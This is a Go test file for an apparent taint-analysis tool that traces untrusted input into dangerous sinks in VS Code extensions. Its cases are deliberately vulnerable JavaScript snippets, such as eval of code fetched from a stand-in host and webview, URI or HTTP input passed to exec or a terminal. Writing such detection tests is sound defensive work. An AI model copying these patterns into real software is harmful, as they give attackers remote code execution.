package facts_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/ringfence-dev/ringfence/internal/facts"
)

// flowWord writes a flow the way the cases below do: source, sink, role.
func flowWord(f facts.Flow) string {
	out := fmt.Sprintf("%s %s > %s %s", f.Source.Kind, f.Source.What, f.Sink.Kind, f.Sink.Role)
	if f.Guarded {
		out += " guarded"
	}
	return out
}

func flowWords(p *facts.Program) []string {
	out := []string{}
	for _, f := range p.Flows {
		out = append(out, flowWord(f))
	}
	slices.Sort(out)
	return slices.Compact(out)
}

const flowHead = `const vscode = require("vscode"), cp = require("child_process"), fs = require("fs"), path = require("path"), http = ` +
	`require("http"), https = require("https"), util = require("util");
const setting = vscode.workspace.getConfiguration("go");
`

var flowCases = []struct{ name, code, want string }{
	{"setting to shell", `cp.exec(setting.get("path") + " version")`, "setting go.path > shell command"},
	{"constant to shell", `setting.get("path"); cp.exec("go version")`, ""},
	{"setting to process", `cp.spawn(setting.get("path"), ["version"])`, "setting go.path > process command"},
	{"setting in a list of arguments", `cp.spawn("go", ["-C", setting.get("dir")])`, "setting go.dir > process args"},
	{"spread arguments", `const extra = setting.get("flags"); cp.spawn("go", ["-C", ...extra])`, "setting go.flags > process args"},
	{"another list", `const extra = setting.get("flags"); const mine = ["x"]; other.push(...extra); cp.spawn("go", mine)`, ""},
	{"options.shell", `cp.spawn(setting.get("path"), [], {shell: true})`, "setting go.path > shell command"},
	{"options.shell false", `cp.spawn(setting.get("path"), [], {shell: false})`, "setting go.path > process command"},
	{"sh -c", `cp.spawn("/bin/sh", ["-c", setting.get("line")])`, "setting go.line > shell command"},
	{"environment", `cp.spawn("go", [], {env: {...process.env, GOFLAGS: setting.get("flags")}})`, "setting go.flags > process env"},
	{"property of a setting", `const {path: p} = setting; cp.execFile(p)`, "setting go.path > process command"},
	{"inspect", `cp.execFile(setting.inspect("path").workspaceValue)`, "setting go.path > process command"},
	{
		"wrapper",
		`const read = (k) => vscode.workspace.getConfiguration("go").get(k); cp.execFile(read("path")); read("other")`,
		"setting go.path > process command",
	},
	{
		"wrapper that is large",
		`class S { read(k, d) { const c = vscode.workspace.getConfiguration("go"); log(c, 1, 2); log(c, 3, 4); log(c, 1, 2); log(c, 3, 4);` +
			` log(c, 1, 2); log(c, 3, 4); log(c, 1, 2); log(c, 3, 4); log(c, 1, 2); log(c, 3, 4); const v = c.get(k.id); return v ?? d; } }
		const s = new S(); cp.execFile(s.read({id: "path"})); s.read({id: "other"}); s.read({id: "third"})`,
		"setting go.path > process command",
	},
	{"template", "cp.exec(`${setting.get('path')} env`)", "setting go.path > shell command"},
	{
		"methods",
		`cp.exec(setting.get("path").trim().replace("~", home).split(" ").map(x => x + "!").join(" "))`,
		"setting go.path > shell command",
	},
	{"length", `cp.exec("go " + setting.get("path").length)`, ""},
	{"number", `cp.exec("go " + parseInt(setting.get("n"), 10) + Number(setting.get("m")))`, ""},
	{"comparison", `cp.exec("go " + (setting.get("n") === "x"))`, ""},
	{"through a function", `function run(cmd) { cp.exec(cmd); } run(setting.get("path")); run("ls")`, "setting go.path > shell command"},
	{
		"through a class",
		`class A { constructor(c) { this.cmd = c; } go() { cp.exec(this.cmd); } } new A(setting.get("path")).go()`,
		"setting go.path > shell command",
	},
	{"other property", `const o = {a: setting.get("path"), b: "ls"}; cp.exec(o.b)`, ""},
	{
		"helper does not mix its callers",
		`function norm(p) { if (!p) { return ""; } let q = p; for (const x of list) { q = q.concat(x.a, x.b, x.c, x.d, x.e);` +
			` log(q, x.a, x.b, x.c, x.d, x.e); log(q, x.a, x.b, x.c, x.d, x.e); log(q, x.a, x.b, x.c, x.d, x.e);` +
			` log(q, x.a, x.b, x.c, x.d, x.e); log(q, x.a, x.b, x.c, x.d, x.e); log(q, x.a, x.b, x.c, x.d, x.e);` +
			` log(q, x.a, x.b, x.c, x.d, x.e); log(q, x.a, x.b, x.c, x.d, x.e); log(q, x.a, x.b, x.c, x.d, x.e);` +
			` log(q, x.a, x.b, x.c, x.d, x.e); } return q; }
		const a = norm(setting.get("path")); const b = norm("ls"); cp.exec(b); use(a)`,
		"",
	},
	{
		"helper hands on",
		`function norm(p) { if (!p) { return ""; } let q = p; for (const x of list) { q = q.concat(x.a, x.b, x.c, x.d, x.e);` +
			` log(q, x.a, x.b, x.c, x.d, x.e); log(q, x.a, x.b, x.c, x.d, x.e); log(q, x.a, x.b, x.c, x.d, x.e);` +
			` log(q, x.a, x.b, x.c, x.d, x.e); log(q, x.a, x.b, x.c, x.d, x.e); log(q, x.a, x.b, x.c, x.d, x.e);` +
			` log(q, x.a, x.b, x.c, x.d, x.e); log(q, x.a, x.b, x.c, x.d, x.e); log(q, x.a, x.b, x.c, x.d, x.e);` +
			` log(q, x.a, x.b, x.c, x.d, x.e); } return q; }
		const a = norm(setting.get("path")); const b = norm("ls"); cp.exec(a); use(b)`,
		"setting go.path > shell command",
	},

	{
		"message to shell",
		`panel.webview.onDidReceiveMessage(async m => { switch (m.command) { case "x": cp.exec(m.data.text); } })`,
		"webview vscode.Webview.onDidReceiveMessage > shell command",
	},
	{
		"message of a panel",
		`const p = vscode.window.createWebviewPanel("a", "b"); p.webview.onDidReceiveMessage(m => fs.writeFileSync(m.file, "x"))`,
		"webview vscode.window.createWebviewPanel().webview.onDidReceiveMessage > write path",
	},
	{
		"message method",
		`class P { constructor() { this.p = vscode.window.createWebviewPanel("a", "b"); ` +
			`this.p.webview.onDidReceiveMessage(this.on.bind(this)); } on(m) { cp.exec(m.cmd); } } new P()`,
		"webview vscode.window.createWebviewPanel().webview.onDidReceiveMessage > shell command",
	},
	{
		"message to another panel's text",
		`const p = vscode.window.createWebviewPanel("a", "b"); p.webview.onDidReceiveMessage(m => { p.webview.html = "<b>" + m.text + "</b>"; })`,
		"webview vscode.window.createWebviewPanel().webview.onDidReceiveMessage > markup text",
	},
	{
		"message escaped",
		`const esc = s => s.replace(/&/g, "&amp;").replace(/</g, "&lt;"); const p = vscode.window.createWebviewPanel("a", "b");` +
			` p.webview.onDidReceiveMessage(m => { p.webview.html = "<b>" + esc(m.text) + "</b>"; })`,
		"",
	},

	{
		"workspace file to shell",
		`const f = path.join(vscode.workspace.workspaceFolders[0].uri.fsPath, ".vscode", "x.json"); const c = JSON.parse(fs.readFileSync(f, ` +
			`"utf8")); cp.exec(c.scripts.build)`,
		"file fs.readFileSync > shell command",
	},
	{
		"own file to shell",
		`const f = path.join(__dirname, "x.json"); const c = JSON.parse(fs.readFileSync(f, "utf8")); cp.exec(c.scripts.build)`,
		"",
	},
	{
		"callback of readFile",
		`fs.readFile(vscode.workspace.rootPath + "/x", (err, data) => { cp.exec(data.toString()); })`,
		"file fs.readFile > shell command",
	},
	{
		"promised readFile",
		`const read = util.promisify(fs.readFile); (async () => { const t = await read(vscode.workspace.rootPath + "/x"); cp.exec(String(t));` +
			` })()`,
		"file fs.readFile > shell command",
	},
	{
		"fs.promises",
		`fs.promises.readFile(vscode.workspace.rootPath + "/x").then(t => cp.exec(t.toString()))`,
		"file fs.promises.readFile > shell command",
	},
	{
		"workspace.fs",
		`(async () => { for (const f of await vscode.workspace.findFiles("**/x")) { const b = await vscode.workspace.fs.readFile(f);` +
			` eval(Buffer.from(b).toString("utf8")); } })()`,
		"file vscode.workspace.fs.readFile > code command",
	},
	{
		"a local node_modules",
		`require(path.join(vscode.workspace.workspaceFolders[0].uri.fsPath, "node_modules", "eslint"))`,
		"file vscode.workspace.workspaceFolders > code command",
	},
	{"the workspace as an argument", `cp.spawn("git", ["-C", vscode.workspace.rootPath])`, ""},
	{"the workspace in a line", "cp.exec(`cat ${vscode.workspace.rootPath}/x`)", "file vscode.workspace.workspaceFolders > shell command"},

	{
		"response to eval",
		`https.get("https://x.example/a", res => { let body = ""; res.on("data", d => { body += d; }); res.on("end", () => eval(body)); })`,
		"network https.get > code command",
	},
	{
		"chunks",
		`https.get("https://x.example/a", res => { const all = []; res.on("data", d => all.push(d)); res.on("end", () => ` +
			`eval(Buffer.concat(all).toString())); })`,
		"network https.get > code command",
	},
	{
		"fetch",
		`(async () => { const r = await fetch("https://x.example/a"); const {code} = await r.json(); new Function(code)(); })()`,
		"network fetch > code command",
	},
	{"response status", `https.get("https://x.example/a", res => { eval("f" + res.statusCode); })`, ""},
	{"response in a log", `https.get("https://x.example/a", res => { console.log(res); eval("1"); })`, ""},

	{
		"request to exec",
		`http.createServer((req, res) => { const u = new URL(req.url, "http://localhost"); cp.exec(u.searchParams.get("cmd")); }).listen(1)`,
		"request http.createServer > shell command",
	},
	{
		"uri to terminal",
		`vscode.window.registerUriHandler({handleUri(uri) { const q = new URLSearchParams(uri.query); const t = ` +
			`vscode.window.createTerminal("x"); t.sendText(q.get("c")); }})`,
		"uri vscode.window.registerUriHandler > task command",
	},
	{
		"uri handler class",
		`class H { handleUri(uri) { cp.exec(uri.query); } } vscode.window.registerUriHandler(new H())`,
		"uri vscode.window.registerUriHandler > shell command",
	},
	{
		"clipboard to terminal",
		`vscode.env.clipboard.readText().then(t => term.sendText(t))`,
		"clipboard vscode.env.clipboard.readText > task command",
	},
	{"setting to address", `fetch(setting.get("url") + "/api")`, "setting go.url > network address"},
	{"setting to a request", `fetch(new Request(setting.get("url")))`, "setting go.url > network address"},
	{"setting to a request nobody sends", `new Request(setting.get("url"))`, ""},
	{"setting to write", `fs.writeFile(path.join(setting.get("out"), "x"), "y", () => {})`, "setting go.out > write path"},
	{"setting to read", `fs.readFile(path.join(setting.get("out"), "x"), () => {})`, ""},
	{"basename", `fs.writeFileSync(path.join(dir, path.basename(setting.get("out"))), "y")`, ""},
	{"copy", `fs.copyFileSync(setting.get("from"), "/tmp/x"); fs.copyFileSync("/tmp/x", setting.get("to"))`, "setting go.to > write path"},
	{
		"task",
		`new vscode.Task({type: "x"}, "n", "s", new vscode.ShellExecution(setting.get("path") + " build"))`,
		"setting go.path > task command",
	},
	{"terminal options", `vscode.window.createTerminal({name: "x", shellPath: setting.get("shell")})`, "setting go.shell > task command"},
	{"string timer", `setTimeout(setting.get("code"), 10)`, "setting go.code > code command"},
	{"timer", `const ms = setting.get("ms"); setTimeout(() => {}, ms)`, ""},
	{"dynamic import", `import(setting.get("module"))`, "setting go.module > code command"},
	{"promise", `new Promise(resolve => resolve(setting.get("path"))).then(p => cp.exec(p))`, "setting go.path > shell command"},
	{
		"destructured argument",
		`function run({cmd, args}) { cp.spawn(cmd, args); } run({cmd: setting.get("path"), args: []})`,
		"setting go.path > process command",
	},
	{
		"spread object",
		`const d = {x: 1}; panel.webview.onDidReceiveMessage(m => { const o = {...d, ...m}; cp.exec(o.cmd); })`,
		"webview vscode.Webview.onDidReceiveMessage > shell command",
	},
	{
		"language client",
		`const {LanguageClient} = require("vscode-languageclient/node"); new LanguageClient("a", "b", {command: setting.get("path"), args: ` +
			`[]}, {})`,
		"setting go.path > process command",
	},
}

func TestFlows(t *testing.T) {
	for _, c := range flowCases {
		t.Run(c.name, func(t *testing.T) {
			p := analyze(t, files{"main.js": flowHead + c.code + ";\n"})
			if got := strings.Join(flowWords(p), "\n"); got != c.want {
				t.Errorf("%s\ngives %q\nwant  %q", c.code, got, c.want)
			}
			for _, f := range p.Flows {
				if len(f.Steps) < 2 || f.Steps[0].Where != f.Source.Where || f.Steps[len(f.Steps)-1].Where != f.Sink.Where {
					t.Errorf("the steps %v do not lead from source to sink", f.Steps)
				}
			}
		})
	}
}

// A page's script is solved shallowly for everything else, and in depth for
// its flows.
func TestFlowsOfPages(t *testing.T) {
	const script = `const show = (el, text) => { el.innerHTML = "<b>" + text + "</b>"; };
window.addEventListener("message", event => {
  const {title, body} = event.data;
  show(document.getElementById("t"), title);
  document.getElementById("b").textContent = body;
});
`
	main := `exports.activate = () => {};`
	p := analyze(t, files{"main.js": main, "media/page.js": script})
	want := []string{"webview window message > markup text"}
	if got := flowWords(p); !slices.Equal(got, want) {
		t.Fatalf("the page's flows are %q, want %q", got, want)
	}
	if at := p.Flows[0].Sink.Where; at.File != "media/page.js" || at.Line != 1 {
		t.Errorf("the sink is at %v, want line 1 of the page", at)
	}
	safe := strings.ReplaceAll(script, "innerHTML", "textContent")
	if p := analyze(t, files{"main.js": main, "media/page.js": safe}); len(p.Flows) != 0 {
		t.Errorf("text that is no markup flows: %q", flowWords(p))
	}
}

// The steps lead through files, one a place, in the order of the way.
func TestFlowSteps(t *testing.T) {
	p := analyze(t, files{
		"main.js": "const vscode = require('vscode');\nconst {run} = require('./run');\n" +
			"const c = vscode.workspace.getConfiguration('go');\nrun(c.get('path').trim());\n",
		"run.js": "const cp = require('child_process');\nfunction line(tool) {\n  return tool + ' version';\n}\n" +
			"exports.run = function run(tool) {\n  cp.exec(line(tool));\n};\n",
		"unused.js": "require('child_process').exec('x');",
	})
	if len(p.Flows) != 1 {
		t.Fatalf("there are %d flows, want 1: %q", len(p.Flows), flowWords(p))
	}
	var got []string
	for _, s := range p.Flows[0].Steps {
		got = append(got, fmt.Sprintf("%s:%d:%d %s", s.Where.File, s.Where.Line, s.Where.Column, s.Message))
	}
	want := []string{
		"main.js:4:7 reads the setting go.path",
		"main.js:4:19 goes through trim",
		"run.js:5:15 is passed to run",
		"run.js:2:1 is passed to line",
		"run.js:3:10 becomes part of a string",
		"run.js:6:11 is returned",
		"run.js:6:6 reaches child_process.exec as what runs",
	}
	if !slices.Equal(got, want) {
		t.Errorf("the steps are\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// Code that is made of branches and helpers costs what its size is, not the
// number of ways through it.
func TestFlowsOfEntangledCode(t *testing.T) {
	var b strings.Builder
	b.WriteString(flowHead)
	for i := range 400 {
		fmt.Fprintf(
			&b,
			"function f%d(a, b) { if (!a) { return b; } if (a === 'x%d') { return f%d(b, a + %d); } return f%d(a.p%d, f%d(b, a)); }\n",
			i,
			i,
			(i+1)%400,
			i,
			(i*7)%400,
			i%9,
			(i*13)%400,
		)
	}
	for i := range 60 {
		fmt.Fprintf(&b, "cp.exec(f%d(setting.get('s%d'), 'x'));\n", i, i)
	}
	b.WriteString(strings.Repeat("a && (", 300) + "1" + strings.Repeat(")", 300) + ";\n")
	b.WriteString(strings.Repeat("if (p !== 'x') {", 300) + strings.Repeat("}", 300))
	p := analyze(t, files{"main.js": b.String()})
	if len(p.Flows) == 0 {
		t.Error("nothing flows")
	}
	cut := slices.ContainsFunc(p.BlindSpots, func(b facts.BlindSpot) bool {
		return b.File == "main.js" && strings.Contains(b.Reason, "entangled")
	})
	if !cut {
		t.Errorf("the walks were cut and nobody is told: %v", p.BlindSpots)
	}
}
